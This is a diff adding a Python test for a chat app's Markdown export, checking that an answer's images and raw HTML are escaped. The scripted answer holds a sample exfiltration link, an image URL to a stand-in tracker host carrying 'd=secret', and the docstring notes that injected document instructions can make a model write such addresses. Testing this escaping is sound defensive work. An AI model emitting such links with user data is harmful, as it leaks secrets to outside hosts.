@@ -286,3 +286,25 @@ def test_names_from_others_stay_text_in_the_markdown(harness: ChatHarness) -> No
     ) in text
     # No unescaped link, image or tag is left anywhere.
     assert re.search(r"(?<!\\)\]\(|(?<!\\)<[a-z]", text) is None
+
+
+def test_an_answers_images_and_raw_html_show_as_text_as_in_the_web_app(
+    harness: ChatHarness,
+) -> None:
+    """An answer is Markdown and keeps its formatting, but an image (fetched by the mail
+    client: a tracker, or an address a document's instructions made the model write) and raw
+    HTML stay text, as the web app shows them; code is left as it is."""
+    harness.provider = ScriptedProvider(
+        (
+            "**Pro** costs 30 EUR. ![chart](https://tracker.example/x?d=secret) "
+            "<img src=https://t.example/p.png> a < b `<kbd>`\n```\n<div>![kept](code)</div>\n```",
+        )
+    )
+    headers = harness.headers()
+    with TestClient(harness.app()) as client:
+        cid = ask(client, headers)
+        text = export(client, headers, cid, "md").text
+    assert (
+        r"**Pro** costs 30 EUR. !\[chart](https://tracker.example/x?d=secret) "
+        "&lt;img src=https://t.example/p.png> a < b `<kbd>`\n```\n<div>![kept](code)</div>\n```"
+    ) in text
